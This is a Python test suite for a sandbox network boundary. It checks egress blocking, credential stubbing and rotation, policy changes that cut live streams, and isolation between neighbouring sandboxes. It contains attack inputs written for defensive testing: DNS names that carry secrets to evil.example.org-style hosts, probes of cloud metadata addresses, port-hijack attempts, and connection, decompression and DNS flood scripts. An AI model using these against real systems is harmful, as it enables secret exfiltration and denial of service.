"""Below and beside HTTP: other protocols, names, neighbours, and rules that change while something is under way."""

import json
import subprocess
import threading
import time

from boundary.cases import A, AUTH, B, B_SEEN, E, OTHER, BoundaryTest, Case, add_cases, get
from boundary.internet import HOSTS
from boundary.neighbour import Neighbour
from boundary.world import BINDINGS, POLICY, Attacker, enter, random_secret
from pons_fixture import UnixConnection, is_in_memory, read_text, wait_for
from sandbox_world import rss_bytes
from warden_client import Refused, Sandbox

MIB = 1 << 20
CUT_SECONDS = 5


def setUpModule():
    enter()


class Network(BoundaryTest):
    """No packet leaves but through the boundary."""

    def names_asked(self):
        return read_text(f"{self.world.directory}/names.log").splitlines()

    def test_no_datagram_leaves(self):
        for port in (443, 3478, 51820, 123):
            for address in (HOSTS[E], HOSTS[A], "127.0.0.1", "2606:2800:220:1::1"):
                answer = self.attacker.ask(work="datagram", host=address, port=port, payload="hello")
                self.assertEqual(answer.data, b"", (address, port))
        self.assertEqual(read_text(f"{self.world.directory}/datagrams.log"), "", "a datagram has left")

    def test_the_first_process_finds_the_rules_standing(self):
        """N16: before anything of a sandbox runs, there is no way out but one."""
        self.settle()
        for i in range(8):
            sandbox = self.world.sandbox(f"early-{i}")
            job = sandbox.run(
                "python3 - <<'END'\n"
                "import socket\n"
                f"for address in ('{HOSTS[E]}', '{HOSTS[A]}', '198.41.0.1'):\n"
                "    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n"
                "        try: s.sendto(b'early', (address, 443))\n"
                "        except OSError: pass\n"
                "    for port in (22, 80):\n"
                "        try:\n"
                "            with socket.create_connection((address, port), timeout=1) as s:\n"
                "                s.sendall(b'GET /early HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n"
                "                print(b'200 OK' in s.recv(100))\n"
                "        except OSError: pass\n"
                "END")
            self.assertNotIn("True", job.text, job)
            sandbox.destroy()
        _, requests = self.settle()
        self.assertEqual(requests, [])
        self.assertEqual(read_text(f"{self.world.directory}/datagrams.log"), "", "a datagram has left")

    def test_no_socket_of_somebody_s_keys_is_inside(self):
        """X16."""
        job = self.sandbox.run("echo \"[$SSH_AUTH_SOCK][$SSH_AGENT_PID][$GPG_AGENT_INFO]\"; find /run /tmp /var /home /root /etc -type s 2>/dev/null; true")
        self.assertEqual(job.text.strip(), "[][][]")

    def test_the_gateway_is_told_of_stubs_and_of_no_secret(self):
        """S19, U11, S17."""
        host = "gateway.pons.internal"
        for tls in (False, True):
            for text, verdict in (("{S}", "inert"), ("{R}", "block")):
                with self.subTest(tls=tls, verdict=verdict):
                    said = self.fill(json.dumps({"messages": [{"role": "user", "content": f"the token is {text}"}]}), "GITHUB_TOKEN")
                    answer = self.attacker.ask(way="direct", host=host, port=443 if tls else 80, tls=tls,
                                               payload=get("/v1/messages", "Content-Type: application/json", host=host, method="POST", body=said))
                    self.assertEqual(answer.code, "secret_in_request" if verdict == "block" else None, answer)
                    events, _ = self.settle()
                    self.assertEqual([event["verdict"] for event in events], [verdict])

    def test_no_name_that_is_not_allowed_is_looked_up(self):
        before = self.names_asked()
        stub = self.stubs["OTHER_KEY"]
        for name in (f"{stub}.evil.example.org", "a" * 63 + "." + "b" * 63 + ".example.org", "x.attacker.example.org",
                     "api.github.com.example.org", "xapi.github.com"):
            for kind in (1, 28, 16, 10, 255, 65, 5, 15, 33):
                for server in ("127.0.0.1", "8.8.8.8", HOSTS[E]):
                    answer = self.attacker.ask(work="lookup", host=name, kind=kind, server=server)
                    self.assertEqual(answer.data[3] & 15, 3, (name, kind))  # no such name
        self.assertEqual(self.names_asked(), before)
        events, _ = self.settle()
        text = json.dumps(events)
        self.assertNotIn(stub.lower(), text.lower(), "a stub is in the audit log")

    def test_an_allowed_name_has_only_addresses(self):
        before = len(self.names_asked())
        for kind in (16, 15, 65, 64, 33, 255):
            self.attacker.ask(work="lookup", host=A, kind=kind)
        self.assertEqual(len(self.names_asked()), before)

    def test_nobody_can_take_the_ports_of_the_way_out(self):
        job = self.sandbox.run(
            "python3 - <<'END'\n"
            "import socket\n"
            "for family, address in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::'), (socket.AF_INET6, '::1')):\n"
            "    for kind, port in ((socket.SOCK_STREAM, 3128), (socket.SOCK_DGRAM, 53)):\n"
            "        for options in ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEPORT,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT)):\n"
            "            with socket.socket(family, kind) as s:\n"
            "                for option in options: s.setsockopt(socket.SOL_SOCKET, option, 1)\n"
            "                try:\n"
            "                    s.bind((address, port))\n"
            "                    if kind == socket.SOCK_STREAM: s.listen()\n"
            "                    print('taken', address, port, options)\n"
            "                except OSError as error:\n"
            "                    pass\n"
            "END")
        self.assertEqual(job.text, "", job)

    def test_roles_are_not_in_reach(self):
        for host in ("tools.pons.internal", "gateway.pons.internal"):
            for path in ("/status", "/sandboxes", "/vault", "/vault/GITHUB_TOKEN", "/explain", "/redact", "/audit", "/environments",
                         "/self-test", "/stop", "/shutdown", "/jobs"):
                for method in ("GET", "PUT", "POST", "DELETE"):
                    answer = self.attacker.ask(way="direct", host=host, port=80,
                                               payload=get(path, host=host, method=method, body="{}" if method != "GET" else ""))
                    self.assertIn(answer.status, (404, 405, 403), (host, path, method, answer))
        self.settle()

    def ask_for_access(self, way, **wish):
        body = json.dumps(wish)
        host = "tools.pons.internal"
        target = f"http://{host}/access-requests" if way == "proxy" else "/access-requests"
        return self.attacker.ask(way=way, host=host, port=80, payload=get(target, host=host, method="POST", body=body))

    def pons(self, *words):
        return self.world.pons_with_input("", *words)

    def test_access_is_asked_for_on_every_way_and_a_person_sees_it_once(self):
        refused = self.attacker.ask(way="connect", host=E, port=443, payload="")
        self.assertIn(b"tools.pons.internal/access-requests", refused.data)
        ids = set()
        for way in ("direct", "connect", "proxy"):
            answer = self.ask_for_access(way, host=E, reason="to see what is there")
            self.assertEqual(answer.status, 202, answer)
            body = json.loads(answer.body)
            self.assertEqual(body["status"], "pending")
            ids.add(body["id"])
        self.assertEqual(len(ids), 1)
        listed = json.loads(self.pons("egress", "requests", "--json"))["requests"]
        self.assertEqual([(r["id"], r["sandbox"], r["host"], r["reason"]) for r in listed],
                         [(ids.copy().pop(), "attacker", E, "to see what is there")])
        self.assertEqual(self.attacker.ask(way="connect", host=E, port=443, payload="").status, 403)
        self.pons("egress", "requests", "close", ids.pop())
        self.assertEqual(json.loads(self.pons("egress", "requests", "--json"))["requests"], [])
        events, requests = self.settle()
        self.assertEqual(requests, [])
        asked = [event["status"] for event in events if event["kind"] == "access_request"]
        self.assertEqual(asked, ["pending", "closed"])
        self.assertNotIn("what is there", json.dumps(events))

    def test_counters_name_verdicts_and_nobody(self):
        self.attacker.ask(way="connect", host=E, port=443, payload="")
        self.settle()
        text = self.pons("egress", "metrics")
        self.assertRegex(text, r'pons_egress_decisions_total\{verdict="block",code="host_not_allowed"\} [1-9]')
        self.assertRegex(text, r'pons_egress_decisions_total\{verdict="swap",code=""\} [1-9]')
        for word in (A, E, "attacker", "GITHUB_TOKEN"):
            self.assertNotIn(word, text)

    def test_addresses_of_the_way_out_itself_lead_nowhere(self):
        for address, port in (("198.18.0.1", 443), ("198.19.255.254", 80), ("127.0.0.1", 53), ("0.0.0.0", 80)):
            with self.subTest(address):
                self.attacker.ask(way="direct", host=address, port=port, payload=get("/x", host=address))
        _, requests = self.settle()
        self.assertEqual(requests, [])


def raw(name, payload, port, host=HOSTS[E], **more):
    return Case(name, payload, "closed", host=host, port=port, tls=False, ways=("direct",), **more)


add_cases(Network, [
    raw("N02 SSH", "SSH-2.0-x\r\n", 22), raw("N02 SMTP", "220 x\r\n", 25), raw("N02 Redis", "*1\r\n$4\r\nPING\r\n", 6379),
    raw("N02 Postgres", "\0\0\0\x08\x04\xd2\x16\x2f", 5432), raw("N02 bytes on the port of TLS", "\x16\x03\x01\xff\xff" + "x" * 100, 443),
    raw("N02 an allowed host on another port", "SSH-2.0-x\r\n", 22, host=A), raw("N13 bytes that are nothing", "\0" * 100, 443, host=A),
    Case("a rule for bytes lets bytes pass", "hello\n", "welcome", host=B, port=9000, tls=False, more={"seconds": 1}),
    Case("a rule for bytes of one port opens no other", "hello\n", "closed", host=B, port=9001, tls=False, ways=("direct",)),
])
Network.check_welcome = lambda self, case, answer, events, requests: self.assertIn(b"welcome\n", answer.data)


class Public(BoundaryTest):
    """Where every public host is allowed, credentials keep every check."""

    policy = {"mode": "public", "credentials": POLICY["credentials"]}

    def test_a_name_that_holds_a_secret_is_not_looked_up(self):
        for credential in ("OTHER_KEY", "QUERY_KEY"):
            value = self.world.secrets[credential]
            for name in (f"{value}.example.org", f"{value.lower()}.example.org", f"{value[:20]}.{value[20:]}.example.org"):
                for way in ("direct", "connect", "proxy"):
                    payload = f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n" if way == "proxy" else get("/", host=name)
                    self.attacker.ask(way=way, host=name, port=80, payload=payload, seconds=3)
        asked = read_text(f"{self.world.directory}/names.log").lower().replace(".", "")
        for credential in ("OTHER_KEY", "QUERY_KEY"):
            self.assertNotIn(self.world.secrets[credential].lower(), asked)
        events, _ = self.settle()
        text = json.dumps(events).lower().replace(".", "")
        for credential in ("OTHER_KEY", "QUERY_KEY"):
            self.assertNotIn(self.world.secrets[credential].lower(), text, "a secret is in the audit log")

    def test_the_record_names_what_a_name_stood_for(self):
        """D24."""
        answer = self.attacker.ask(way="direct", host="alias.example.net", port=443, tls=True, payload=get("/x", host="alias.example.net"))
        self.assertEqual(answer.status, 200, answer)
        events, _ = self.settle()
        self.assertEqual([(event["verdict"], event["host"], event["aliases"]) for event in events], [("allow", "alias.example.net", [E])])


add_cases(Public, [
    Case("S01", get("/x", AUTH), "swap"),
    Case("D01 a stranger over TLS gets the stub and nothing else", get("/echo", AUTH, host=E), "pass", host=E, holds="{S}"),
    Case("D01 a stranger over a plain line", get("/x", AUTH, host=E), "block", host=E, tls=False,
         code="credential_endpoint_mismatch", ways=("direct", "connect", "proxy")),
    Case("D04 the stranger's address, Host of A", get("/x", AUTH), "block", host=HOSTS[E], tls=False, code="host_mismatch",
         ways=("direct", "connect")),
    Case("D05 the stranger's address, server name of A", get("/x", AUTH), "block", host=HOSTS[E], code="sni_host_mismatch",
         more={"server_name": A}),
    Case("D05 the address of A, server name of A", get("/x", AUTH), "block", host=HOSTS[A], code="sni_host_mismatch",
         more={"server_name": A}),
    Case("D11 the address of A without a name", get("/echo", AUTH), "block", host=HOSTS[A], code="address_not_allowed",
         more={"server_name": "", "verify": False}),
    Case("D24 a name that leads to a stranger", get("/x", AUTH, host="alias.example.net"), "block", host="alias.example.net",
         tls=False, ways=("direct", "connect", "proxy"), code="credential_endpoint_mismatch"),
    *[Case(f"N09 {address}", get("/x", host=address), "block", host=address, tls=False, ways=("direct", "connect"))
      for address in ("169.254.169.254", "100.100.100.200", "168.63.129.16", "10.1.2.3", "192.168.1.1", "198.41.0.1")],
    Case("N09 a name for metadata", get("/x", host="metadata.example.net"), "block", host="metadata.example.net", tls=False,
         ways=("direct", "connect", "proxy")),
])


class Budgets(BoundaryTest):
    """What a sandbox may send in its life is counted on every way, while it is sent."""

    policy = {**POLICY, "limits": {"bytes_out": 300_000, "requests": 40}}

    def spend(self, line):
        sandbox = self.world.sandbox("spender")
        self.addCleanup(sandbox.destroy)
        job = sandbox.run(line)
        return sandbox, job

    def arrived(self, host):
        with open(self.world.internet.received_by(host)[0], "rb") as file:
            return len(file.read())

    def test_a_large_body_ends_where_the_budget_does(self):
        for host in (A, B):
            with self.subTest(host):
                sandbox, job = self.spend(f"head -c 3000000 /dev/zero | curl -sS -o /dev/null -w '%{{http_code}}' -T - https://{host}/sink")
                self.assertNotEqual(job.text, "200", job)
                self.assertLess(self.arrived(host), 400_000)
                job = sandbox.run(f"curl -sS https://{host}/x")
                self.assertEqual(json.loads(job.text)["code"], "budget_spent", job)
                self.doCleanups()
        self.settle()

    def test_requests_are_counted_on_every_way(self):
        for host in (A, B):
            with self.subTest(host):
                sandbox, job = self.spend(f"for i in $(seq 40); do curl -sS -o /dev/null -w '%{{http_code}}\n' https://{host}/x; done")
                self.assertEqual(job.text.split(), ["200"] * 40)
                self.assertEqual(json.loads(sandbox.run(f"curl -sS https://{host}/x").text)["code"], "budget_spent")
                self.doCleanups()
        self.settle()


class Changes(BoundaryTest):
    """Rules and credentials that change while requests are under way."""

    config = "domain: boxes.example.net:8443\n"

    def egress(self, method, target, body):
        connection = UnixConnection(f"{self.world.pons.state_dir}/run/egress.sock")
        connection.request(method, target, body=json.dumps(body))
        response = connection.getresponse()
        text = response.read()
        connection.close()
        return response.status, text

    def follow(self, host, path, credential=None, field=AUTH):
        """A stream that goes on, read by another program in the sandbox."""
        fields = [self.fill(field, credential)] if credential else []
        attacker = Attacker(self.sandbox)
        answer = []
        work = threading.Thread(target=lambda: answer.append(
            attacker.ask(way="direct", host=host, port=443, tls=True, until_closed=True, seconds=30,
                         payload=get(path, *fields, host=host))))
        before = self.world.internet.count
        work.start()

        def begun():
            with open(f"{self.world.directory}/connections.jsonl", encoding="utf-8") as file:
                return any(path in line for line in file.readlines()[before:])

        wait_for(begun, "the stream begins")
        time.sleep(0.3)
        return work, answer

    def assert_cut(self, work, answer):
        """Within a second; a busy machine gets more."""
        work.join(CUT_SECONDS)
        self.assertFalse(work.is_alive(), "it goes on")
        self.assertIn(b"tick", answer[0].data)
        self.assertNotIn(b"0\r\n\r\n", answer[0].data)

    def test_a_stream_ends_with_its_credential(self):
        old = self.world.secrets["OTHER_KEY"]
        work, answer = self.follow(OTHER, "/wait/credential", "OTHER_KEY", "X-Api-Key: {S}")
        self.assertEqual(self.world.pons.command("vault", "rm", "OTHER_KEY").returncode, 0)
        self.assert_cut(work, answer)
        # L15: without its value, the stub opens nothing.
        gone = self.attacker.ask(way="direct", host=OTHER, port=443, tls=True,
                                 payload=self.fill(get("/echo", "X-Api-Key: {S}", host=OTHER), "OTHER_KEY"))
        self.assertIsNone(self.world.find_leak(gone.data))
        self.assertIsNotNone(gone.code, gone)
        self.world.set_secret("OTHER_KEY", old, BINDINGS["OTHER_KEY"])
        events, _ = self.settle()
        cut = [event for event in events if event["verdict"] == "cut"]
        self.assertEqual([event["path"] for event in cut], ["/wait/credential"], events)

    def test_a_removed_credential_does_not_come_back(self):
        """A host may show later what it was sent before."""
        value = self.world.secrets["OTHER_KEY"]
        kept = self.attacker.ask(way="direct", host=OTHER, port=443, tls=True,
                                 payload=self.fill(get("/store", "X-Api-Key: {S}", host=OTHER), "OTHER_KEY"))
        self.assertEqual(kept.status, 200, kept)
        self.assertEqual(self.world.pons.command("vault", "rm", "OTHER_KEY").returncode, 0)
        for way, tls in (("direct", True), ("connect", True), ("direct", False)):
            answer = self.attacker.ask(way=way, host=OTHER, port=443 if tls else 80, tls=tls, payload=get("/stored", host=OTHER))
            self.assertIsNone(self.world.find_leak(answer.data), answer)
        # Whoever is made now does not even get a variable.
        later = self.world.sandbox("later")
        self.assertNotIn("OTHER_KEY", Attacker(later).environment)
        later.destroy()
        self.world.set_secret("OTHER_KEY", value, BINDINGS["OTHER_KEY"])
        self.settle()

    def test_a_credential_that_is_not_there_is_no_variable(self):
        wanted = {**POLICY, "credentials": [*POLICY["credentials"], "ABSENT_KEY"]}
        sandbox = self.world.sandbox("wanting", {"policy": json.dumps(wanted)})
        environment = Attacker(sandbox).environment
        self.assertNotIn("ABSENT_KEY", environment)
        self.assertIn("GITHUB_TOKEN", environment)
        sandbox.destroy()

    def test_a_fork_has_stubs_of_its_own(self):
        parent = self.world.sandbox("parent")
        before = Attacker(parent).environment
        status, answer = self.world.warden.raw("POST", "/sandboxes/parent/fork", json.dumps({"id": "child"}), seconds=60)
        self.assertEqual(status, 201, answer)
        child = Sandbox(self.world.warden, "child")
        self.addCleanup(parent.destroy)
        self.addCleanup(child.destroy)
        attacker = Attacker(child)
        for name in POLICY["credentials"]:
            self.assertNotEqual(attacker.environment[name], before[name])
        for stub, code in ((before["GITHUB_TOKEN"], "foreign_credential"), (attacker.environment["GITHUB_TOKEN"], None)):
            answer = attacker.ask(way="direct", host=A, port=443, tls=True, payload=get("/x", f"Authorization: Bearer {stub}"))
            self.assertEqual(answer.code, code, answer)
        self.settle()

    def test_nothing_is_bound_to_the_names_of_sandboxes(self):
        """I06."""
        for host in ("8080-attacker.boxes.example.net", "boxes.example.net", "*.boxes.example.net"):
            done = subprocess.run([self.world.pons.binary, "vault", "set", "OWN_KEY", "--bind", f"host={host}", "--state-dir",
                                   self.world.pons.state_dir], input=random_secret(), text=True, capture_output=True, check=False)
            self.assertNotEqual(done.returncode, 0)
            self.assertIn("is a name of Pons itself", done.stdout + done.stderr)

    def test_no_copy_of_a_value_outlives_its_grace_time(self):
        """V18."""
        egress = self.world.pons.role_pids()["egress"]
        old = random_secret()
        self.world.set_secret("SHORT_LIVED", old, ["--bind", "host=other.example.com,header=X-Short"])
        self.assertTrue(is_in_memory(egress, old.encode()))
        self.world.pons_with_input(random_secret(), "vault", "rotate", "SHORT_LIVED", "--grace", "0s")
        wait_for(lambda: not is_in_memory(egress, old.encode()), "the old value is nowhere in egress", step=1)
        self.assertEqual(self.world.pons.command("vault", "rm", "SHORT_LIVED").returncode, 0)
        self.settle()

    def test_a_rotated_credential_keeps_its_stub_and_both_values_are_scrubbed(self):
        self.attacker.ask(way="direct", host=A, port=443, tls=True, payload=self.fill(get("/store", AUTH), "GITHUB_TOKEN"))
        old, new = self.world.secrets["GITHUB_TOKEN"], random_secret("ghp_")
        self.world.pons_with_input(new, "vault", "rotate", "GITHUB_TOKEN")
        self.world.secrets.update({"GITHUB_TOKEN": new, "old": old})
        self.world.forms.extend(self.world.forms_of(new))
        for path in ("/stored", "/echo"):
            answer = self.attacker.ask(way="direct", host=A, port=443, tls=True, payload=self.fill(get(path, AUTH), "GITHUB_TOKEN"))
            self.assertEqual(answer.status, 200, answer)
            self.assertIsNone(self.world.find_leak(answer.data), answer)
        del self.world.secrets["old"]
        self.settle()
        received = open(self.world.internet.received_by(A)[0], "rb").read()
        self.assertIn(new.encode(), received)

    def test_a_tighter_policy_ends_what_it_no_longer_allows(self):
        for host in (A, B):
            with self.subTest(host):
                work, answer = self.follow(host, f"/wait/{host}")
                tighter = {**POLICY, "allow": [rule for rule in POLICY["allow"] if rule["host"] != host]}
                self.assertEqual(self.egress("PUT", "/sandboxes/attacker/policy", {"policy": tighter})[0], 200)
                self.assert_cut(work, answer)
                gone = self.attacker.ask(way="connect", host=host, port=443, tls=True, payload=get("/x", host=host))
                self.assertEqual(gone.code, "host_not_allowed")
                self.assertEqual(self.egress("PUT", "/sandboxes/attacker/policy", {"environment": "web"})[0], 200)
        self.settle()

    def test_a_policy_that_cannot_be_read_changes_nothing(self):
        for wrong in ({"mode": "list"}, {"mode": "list", "allow": []}, {"mode": "open"}, {"mode": "public", "alow": []}, {},
                      {"mode": "list", "allow": "api.github.com"}, {"mode": "list", "allow": [{"host": "*.github.io"}]},
                      {"mode": "list", "allow": [{"host": "169.254.169.254", "addresses": ["169.254.169.254"]}]},
                      {"mode": "list", "allow": [{"host": A, "methods": []}]}):
            status, text = self.egress("PUT", "/sandboxes/attacker/policy", {"policy": wrong})
            self.assertEqual(status, 400, (wrong, text))
            with self.assertRaises(Refused):
                self.world.sandbox("wrong", {"policy": json.dumps(wrong)})
        self.settle()

    def test_a_stub_of_another_sandbox_opens_nothing(self):
        other = self.world.sandbox("neighbour")
        foreign = Attacker(other).environment["GITHUB_TOKEN"]
        self.assertNotEqual(foreign, self.stubs["GITHUB_TOKEN"])
        answer = self.attacker.ask(way="direct", host=A, port=443, tls=True, payload=get("/x", f"Authorization: Bearer {foreign}"))
        self.assertEqual(answer.code, "foreign_credential", answer)
        other.destroy()
        self.settle()


class Floods(BoundaryTest):
    """One sandbox does its worst, and its policy lets it; another is served."""

    policy = {**POLICY, "limits": {"connections": 60_000}}

    def served(self, attacker, stub):
        begun = time.monotonic()
        answer = attacker.ask(way="direct", host=A, port=443, tls=True, payload=get("/x", f"Authorization: Bearer {stub}"), seconds=30)
        self.assertEqual(answer.status, 200, answer)
        return time.monotonic() - begun

    def neighbour(self, name):
        sandbox = self.world.sandbox(name)
        self.addCleanup(sandbox.destroy)
        attacker = Attacker(sandbox)
        return Neighbour(self, lambda: self.served(attacker, attacker.environment["GITHUB_TOKEN"]))

    def egress_rss(self):
        return rss_bytes(self.world.pons.role_pids()["egress"])

    def flood(self, script):
        """Started, not awaited."""
        job = Attacker.__new__(Attacker)
        job.lines = self.sandbox.start(f"python3 - <<'END'\n{script}\nEND", seconds=300)
        next(job.lines)
        return job.lines

    def test_ten_thousand_connections_leave_the_neighbour_alone(self):
        other = self.neighbour("beside-connections")
        before = self.egress_rss()
        lines = self.flood(
            "import resource, socket\n"
            "resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)\n"
            "held = []\n"
            "print('begun', flush=True)\n"
            "for i in range(10000):\n"
            "    s = socket.socket(); s.setblocking(False)\n"
            "    try: s.connect(('127.0.0.1', 3128))\n"
            "    except BlockingIOError: pass\n"
            "    except OSError: s.close(); continue\n"
            "    try: s.send(b'GET http://plain.example.net/x HTTP/1.1\\r\\nHo')\n"
            "    except OSError: pass\n"
            "    held.append(s)\n"
            "print(len(held), flush=True)\n"
            "import time; time.sleep(3)\n")
        next(lines)
        times = other.ask_while(lambda: next(lines))
        grown = self.egress_rss() - before
        list(lines)
        print(f"\n10,000 connections: {other.tell(times)}; egress grew by {grown / MIB:.1f} MiB")
        self.assertLess(grown, 200 * MIB)
        other.assert_undisturbed(times)
        # Those that were let in give way.
        wait_for(lambda: self.knock_or_none(), "the flooder itself is served again", seconds=60, step=0.5)

    def knock_or_none(self):
        try:
            return self.knock()
        except AssertionError:
            return None

    def test_bodies_that_unpack_to_a_window_each_cost_no_more_than_their_share(self):
        """Each is 8 KiB of zstd that stays below the ratio of a bomb, fills a window of 8 MiB and does not end."""
        other = self.neighbour("beside-windows")
        before = self.egress_rss()
        lines = self.flood(
            "import collections, os, socket, ssl\n"
            "def block(kind, size): return (kind << 1 | size << 3).to_bytes(3, 'little')\n"
            "piece = block(0, 140) + os.urandom(140) + block(1, 131072) + b'x'\n"
            "data = b'\\x28\\xb5\\x2f\\xfd\\x00\\x68' + piece * 64\n"
            f"head = ('POST /sink HTTP/1.1\\r\\nHost: {A}\\r\\nContent-Encoding: zstd\\r\\nContent-Length: 60000\\r\\n\\r\\n').encode()\n"
            "context = ssl.create_default_context()\n"
            "held = []\n"
            "for i in range(200):\n"
            f"    s = context.wrap_socket(socket.create_connection(('{A}', 443)), server_hostname='{A}')\n"
            "    s.sendall(head + data)\n"
            "    held.append(s)\n"
            "outcomes = collections.Counter()\n"
            "for s in held:\n"
            "    s.settimeout(0.01)\n"
            "    try: outcomes[s.recv(100).split(b'\\r')[0]] += 1\n"
            "    except OSError: outcomes['open'] += 1\n"
            "print('begun', dict(outcomes), flush=True)\n"
            "import time; time.sleep(5)\n")
        said = next(lines)["output"]["bytes"].strip()
        grown = self.egress_rss() - before
        times = other.ask()
        list(lines)
        print(f"\n200 windows of 8 MiB: {said}; egress grew by {grown / MIB:.1f} MiB; {other.tell(times)}")
        self.assertLess(grown, 200 * MIB)
        other.assert_undisturbed(times)
        self.settle()

    def test_requests_that_are_dear_to_read_leave_the_neighbour_alone(self):
        """What a sandbox has at once may take long to look at: a path of as many segments and a query of as many parameters as fit, where
        a credential is bound to a path; names without end where credentials are looked for, as they are and out of a small pack."""
        form, json_type = "Content-Type: application/x-www-form-urlencoded", "Content-Type: application/json"
        messages = {
            "parameters": "get('basic.example.com', '/v1' + '/a' * 7000 + '?' + '&' * 15000)",
            "names in a form": f"post(b'%61%62%63=1&' * 600000, '{form}')",
            "names in JSON": f"post(b'{{' + b'\"a\":1,' * 1300000 + b'\"b\":1}}', '{json_type}')",
            "names in a pack": f"post(gzip.compress((os.urandom(3000) + b'&ab' * 300000) * 9), '{form}', 'Content-Encoding: gzip')",
        }
        for name, message in messages.items():
            with self.subTest(name):
                self.flood_with(name, message)

    def flood_with(self, name, message):
        other = self.neighbour("beside-requests")
        lines = self.flood(
            "import collections, gzip, os, socket, ssl, threading, time\n"
            "context, done = ssl.create_default_context(), []\n"
            "def head(host, method, target, *fields):\n"
            "    return '\\r\\n'.join((f'{method} {target} HTTP/1.1', f'Host: {host}', *fields, '', '')).encode()\n"
            "def get(host, target): return host, head(host, 'GET', target)\n"
            f"def post(body, *fields): return '{A}', head('{A}', 'POST', '/sink', f'Content-Length: {{len(body)}}', *fields) + body\n"
            f"host, message = {message}\n"
            "def ask(end):\n"
            "    with context.wrap_socket(socket.create_connection((host, 443)), server_hostname=host) as s:\n"
            "        while time.monotonic() < end:\n"
            "            s.sendall(message)\n"
            "            done.append(s.recv(65536)[:12].decode())\n"
            "print('begun', flush=True)\n"
            "workers = [threading.Thread(target=ask, args=(time.monotonic() + 4,)) for _ in range(4)]\n"
            "for each in workers: each.start()\n"
            "for each in workers: each.join()\n"
            "print(dict(collections.Counter(done)), flush=True)\n")
        next(lines)
        said = []
        times = other.ask_while(lambda: said.append(next(lines)["output"]["bytes"].strip()))
        list(lines)
        print(f"\n{name}: {said[0]}; {other.tell(times)}")
        self.assertRegex(said[0], "^{'HTTP/1.1 200': [0-9]+}$")
        other.assert_undisturbed(times)
        self.settle()
        self.doCleanups()

    def test_a_hundred_thousand_names_leave_the_neighbour_alone(self):
        other = self.neighbour("beside-names")
        before, asked = self.egress_rss(), len(read_text(f"{self.world.directory}/names.log").splitlines())
        lines = self.flood(
            "import socket, struct\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', 53)); s.setblocking(False)\n"
            "print('begun', flush=True)\n"
            "answers = 0\n"
            "for i in range(100000):\n"
            "    label = b'n%d' % i\n"
            "    try: s.send(struct.pack('!HHHHHH', i & 65535, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b'\\4evil\\3org\\0\\0\\1\\0\\1')\n"
            "    except OSError: pass\n"
            "    try:\n"
            "        s.recv(512); answers += 1\n"
            "    except OSError: pass\n"
            "print(answers, flush=True)\n")
        next(lines)
        times = other.ask_while(lambda: next(lines))
        list(lines)
        grown = self.egress_rss() - before
        print(f"\n100,000 names: {other.tell(times)}; egress grew by {grown / MIB:.1f} MiB")
        other.assert_undisturbed(times)
        names = read_text(f"{self.world.directory}/names.log").splitlines()[asked:]
        self.assertEqual([name for name in names if "evil" in name], [])
        self.assertLess(grown, 50 * MIB)
        verified = self.world.pons.command("audit", "verify")
        self.assertEqual(verified.returncode, 0, verified.stdout + verified.stderr)
        events = self.world.events()
        self.assertTrue(any(event["kind"] == "suppressed" for event in events), "the flood is written down in full")
        self.assertLess(len(events), 50_000)


del BoundaryTest  # or it would run by itself
